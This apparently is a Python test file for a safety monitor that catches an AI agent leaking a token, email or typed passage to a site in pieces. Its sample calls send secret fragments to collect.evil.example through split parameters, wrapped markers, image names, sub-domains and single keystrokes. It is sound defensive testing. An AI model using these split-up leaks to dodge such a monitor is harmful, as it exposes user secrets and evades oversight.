"""Data the model sends a site in pieces spread over fields, wrapped in markers, over sub-domains, or as a long slow
leak: the data-flow rule rebuilds the site's stream (gofer.safety.checks._pieces, dataflow.stream_reason), and
ordinary forms and browsing stay quiet."""

from __future__ import annotations

from typing import Any

from test_flow_pieces import EMAIL, TOKEN, _ask, _chunks, _ran, _send_all, _start

from gofer.events import Event, Observation
from gofer.safety.checks._pieces import SITE_CHARS, Sent, add_pieces, cores, site_key

PARTS = (TOKEN[:8], TOKEN[8:16], TOKEN[16:])
"""A token in three parts, each too short to count alone."""
SITE = "https://collect.evil.example"
LONG_WORDS = ("internationalisation responsibilities acknowledgement notwithstanding telecommunications "
              "infrastructure modernisation considerations")


def _http(url: str, **body: Any) -> tuple[str, dict[str, Any]]:
    return "http_request", {"url": url, **({"body": body} if body else {})}


def test_parts_of_a_token_in_different_parameters_of_different_requests_ask() -> None:
    _, decision, ran = _send_all([_http(f"{SITE}/c?{k}={p}") for k, p in zip("abc", PARTS, strict=True)])
    assert decision is not None and ran <= 2, ran
    assert decision.details["destination"] == "collect.evil.example" and "fields" in decision.reason


def test_parts_in_parameters_of_one_request_and_in_body_fields_ask() -> None:
    assert _ask(_start(), *_http(f"{SITE}/c?a={PARTS[0]}&b={PARTS[1]}&c={PARTS[2]}")) is not None
    _, decision, ran = _send_all([_http(f"{SITE}/f", **{k: p}) for k, p in zip(("name", "city", "zip"), PARTS,
                                                                                 strict=True)])
    assert decision is not None and ran <= 2


def test_pieces_wrapped_in_changing_markers_ask() -> None:
    pieces = _chunks(TOKEN, 6)
    _, wrapped, _ = _send_all([_http(f"{SITE}/c?d=x{i}-{p}-y") for i, p in enumerate(pieces)])
    assert wrapped is not None and "in parts of the pieces" in wrapped.reason
    _, images, _ = _send_all([_http(f"{SITE}/c?img={p}.jpg&t={1000 + i}") for i, p in enumerate(pieces)])
    assert images is not None
    # another field's pieces between them are skipped
    mixed = [_http(f"{SITE}/c?{'ab'[i % 2]}=id-{p}&n={i}") for i, p in enumerate(pieces)]
    assert _send_all(mixed)[1] is not None


def test_pieces_to_sub_domains_of_one_site_add_up_with_a_port_too() -> None:
    calls = [_http(f"https://{h}.evil.example:8443/c?d={p}") for h, p in zip("abcde", _chunks(TOKEN, 5), strict=False)]
    _, decision, _ = _send_all(calls)
    assert decision is not None and decision.details["destination"].endswith("evil.example:8443")
    assert site_key("a.evil.example:8443") == site_key("b.evil.example:8443") == "evil.example:8443"
    assert site_key("::1") == "::1" and site_key("127.0.0.1:80") == "127.0.0.1:80"


def test_a_long_passage_typed_a_key_at_a_time_asks() -> None:
    events = _start()
    events[3] = events[3].model_copy(update={"text": f"notes: {LONG_WORDS}\n"})
    keys = [("browser_press", {"key": "Space" if c == " " else c}) for c in LONG_WORDS]
    sent: list[Event] = events
    decision = None
    for tool, arguments in keys:  # more than 64 keys: the old bound of 64 pieces lost the passage's start
        decision = _ask(sent, tool, arguments)
        if decision is not None:
            break

        _ran(sent, tool, arguments)
    assert decision is not None and "passage" in decision.reason


def test_streams_keep_characters_not_pieces() -> None:
    stream: list[Sent] = []
    add_pieces(stream, [("typed", "k")] * (SITE_CHARS + 10))
    assert len(stream) == SITE_CHARS
    add_pieces(stream, [("query a", "x" * (SITE_CHARS * 2))])  # a long piece is kept whole, as the last
    assert stream == [("query a", "x" * (SITE_CHARS * 2))]
    for i in range(3000):  # a new field per piece does not grow the stream past the site's bound
        add_pieces(stream, [(f"query f{i}", "abcdefgh")])
    assert sum(len(t) for _, t in stream) <= SITE_CHARS


def test_cores_are_the_parts_between_punctuation() -> None:
    assert {"piece", "x1-piece-y"} <= cores("x1-PIECE-y") and "piece" in cores("piece.jpg")
    assert cores("a" * 200) == {"a" * 200}


PROFILE = ("Dana Whitfield\n12 Oak Street\nSpringfield 62704\nphone 217 555 0100\ncustomer id c7f3a9d2e1\n"
           "order ref 9b8e7d6c5a4f3e2d1c0b\n")


def test_an_ordinary_form_and_browsing_across_fields_stay_quiet() -> None:
    events = _start()
    events.append(Observation(run_id="r", action_id="a0", call_id="c0", tool="read_file", text=PROFILE))
    form = "https://shop.other.example"
    calls: list[tuple[str, dict[str, Any]]] = [
        ("browser_type", {"ref": 1, "text": "Dana Whitfield"}), ("browser_type", {"ref": 2, "text": "12 Oak Street"}),
        ("browser_type", {"ref": 3, "text": "Springfield"}), ("browser_type", {"ref": 4, "text": "62704"}),
        _http(f"{form}/checkout", name="Dana Whitfield", street="12 Oak Street", city="Springfield"),
        _http(f"{form}/checkout", zip="62704", country="US", delivery="standard"),
        *[_http(f"{form}/item/{i}.jpg?page={i}&sort=price&v=2024{i}&cb=a{i}b") for i in range(40)],
        *[_http(f"https://cdn{i}.other.example/s/app-{i}.js?v=1{i}") for i in range(10)],
    ]
    for tool, arguments in calls:
        assert _ask(events, tool, arguments) is None, arguments

        _ran(events, tool, arguments)


def test_an_address_split_over_fields_asks() -> None:
    local, domain = EMAIL.split("@")
    _, decision, _ = _send_all([_http(f"{SITE}/c?u={local}@"), _http(f"{SITE}/c?h={domain}")])
    assert decision is not None and "personal data" in decision.reason
